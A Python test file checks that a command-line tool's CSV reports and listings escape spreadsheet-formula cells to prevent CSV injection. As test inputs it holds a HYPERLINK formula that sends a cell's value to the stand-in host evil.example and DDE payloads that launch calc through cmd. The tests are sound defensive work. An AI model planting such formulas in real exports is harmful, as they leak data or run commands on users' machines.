"""CSV cells from callers and Partner Center never become spreadsheet formulas, in every CSV the command line
writes (OWASP's CSV injection advice), and the bulk report still reads back for resuming."""

from __future__ import annotations

import csv
import json
import uuid
from pathlib import Path
from typing import Any

import pytest
from hypothesis import given
from hypothesis import strategies as st

from shared.cli.campaign import Campaign, ReportWriter, Result, Row, read_previous_report
from shared.cli.csv_safety import FORMULA_STARTS, read_cell, safe_cell, safe_row
from shared.models import ProductUpgradeRequest
from tests.cli.helpers import Cli, customers, write_csv


@pytest.mark.parametrize(
    ("value", "written"),
    [
        ('=HYPERLINK("https://example.invalid","x")', '\'=HYPERLINK("https://example.invalid","x")'),
        ("+44 Consulting", "'+44 Consulting"),
        ("-minus Trading", "'-minus Trading"),
        ("@mention Labs", "'@mention Labs"),
        ("\tTabbed", "'\tTabbed"),
        ("\rReturn", "'\rReturn"),
        ("Contoso Ltd", "Contoso Ltd"),
        ("Contoso = Fabrikam", "Contoso = Fabrikam"),
        ("", ""),
        ("'already text", "'already text"),
    ],
)
def test_formula_looking_cells_get_a_leading_quote(value: str, written: str) -> None:
    assert safe_cell(value) == written


def test_every_cell_of_a_row() -> None:
    assert safe_row({"a": "=1+1", "b": "ok"}) == {"a": "'=1+1", "b": "ok"}


FORMULA = '=HYPERLINK("https://evil.example/?"&B2,"Open")'


def raw_cells(path: Path) -> list[list[str]]:
    """Every cell as a spreadsheet gets it: the file's text, CSV-quoting undone, nothing else."""
    with open(path, encoding="utf-8", newline="") as handle:
        return list(csv.reader(handle))


def runnable(cell: str) -> bool:
    return cell.startswith(FORMULA_STARTS)


@pytest.mark.parametrize("start", FORMULA_STARTS)
def test_a_cell_a_spreadsheet_would_run_gets_a_leading_quote(start):
    assert safe_cell(f"{start}1+1") == f"'{start}1+1"
    assert safe_cell(f"'{start}1+1") == f"''{start}1+1"  # already quoted by its author: one more


@pytest.mark.parametrize("value", ["", "Azure", "accepted", "00000000-0000-0000-0000-000000000001", "'quoted", "a=b"])
def test_ordinary_cells_are_written_as_they_are(value):
    assert safe_cell(value) == value == read_cell(value)


@given(st.text(max_size=20))
def test_reading_a_cell_undoes_exactly_what_writing_it_added(value):
    assert read_cell(safe_cell(value)) == value
    assert not runnable(safe_cell(value))


def test_the_bulk_report_writes_caller_and_partner_center_text_as_text(cli: Cli) -> None:
    refused, accepted = customers(2)
    rows = [
        {"customerId": refused, "crmAccount": "@SUM(1+1)*cmd|' /C calc'!A0", "requestId": "-refused"},
        {"customerId": accepted, "crmAccount": FORMULA, "requestId": "+accepted"},
    ]
    path = write_csv(cli.folder / "=wave.csv", rows, columns=["customerId", FORMULA, "crmAccount", "requestId"])
    cli.partner_center.fail_next(
        1, 403, {"code": "=1+1", "description": "=cmd|' /C calc'!A0"}, match="/v1/productupgrades"
    )

    first = cli.run("bulk", str(path), "--report", "r.csv", "--concurrency", "1")

    assert first.code == 1, first.stderr
    cells = raw_cells(cli.folder / "r.csv")
    assert not [cell for line in cells for cell in line if runnable(cell)]
    header, *lines = cells
    assert header[1] == "'" + FORMULA
    assert [line[2] for line in lines] == ["'@SUM(1+1)*cmd|' /C calc'!A0", "'" + FORMULA]
    assert [line[3] for line in lines] == ["'-refused", "'+accepted"]
    refused_line = dict(zip(header, lines[0], strict=True))
    assert refused_line["status"] == "rejected" and refused_line["partnerCenterErrorCode"] == "'=1+1"

    # Resumed from that report: the accepted row is kept as it was, nothing is sent again for it.
    second = cli.run("bulk", str(path), "--report", "r.csv", "--concurrency", "1")

    assert second.code == 0, second.stderr
    assert raw_cells(cli.folder / "r.csv")[2] == lines[1]
    assert [r.json()["customerId"] for r in cli.partner_center.requests_to("/v1/productupgrades", "POST")] == [
        refused,
        accepted,
        refused,
    ]


def test_the_report_reads_back_as_written_for_resuming(tmp_path: Path) -> None:
    customer = str(uuid.uuid4())
    row = Row(1, {"customerId": customer, "note": FORMULA}, ProductUpgradeRequest(customer, "Azure"), "k")
    campaign = Campaign("wave", ["customerId", "note"], [row])
    result = Result(
        "accepted",
        upgrade_id=str(uuid.uuid4()),
        message="-a message",
        outcome="@completed",
        partner_center_status="+Completed",
    )
    writer = ReportWriter(tmp_path / "r.csv", campaign, wait=True)
    writer.start({})
    writer.write(row, result)
    writer.finish()

    assert read_previous_report(tmp_path / "r.csv") == {(customer, "azure"): result}


def test_list_output_writes_caller_text_as_text(stored_app: Any, tmp_path: Path) -> None:
    response = stored_app.create(
        {"customerId": str(uuid.uuid4())},
        headers={"Idempotency-Key": "@SUM(1+1)*cmd|' /C calc'!A0", "MS-CorrelationId": FORMULA},
    )
    assert response.status_code == 202
    listing = Cli(tmp_path, stored_app.entra, stored_app.partner_center)

    ran = listing.run("list", "--output", "list.csv", "--json")

    assert ran.code == 0, ran.stderr
    header, line = raw_cells(tmp_path / "list.csv")
    item = dict(zip(header, line, strict=True))
    assert item["correlationId"] == "'" + FORMULA and item["requestId"] == "'@SUM(1+1)*cmd|' /C calc'!A0"
    assert not [cell for cell in line if runnable(cell)]
    # The --json document is data, not a spreadsheet: it carries the values as they are.
    assert json.loads(ran.stdout)["items"][0]["correlationId"] == FORMULA
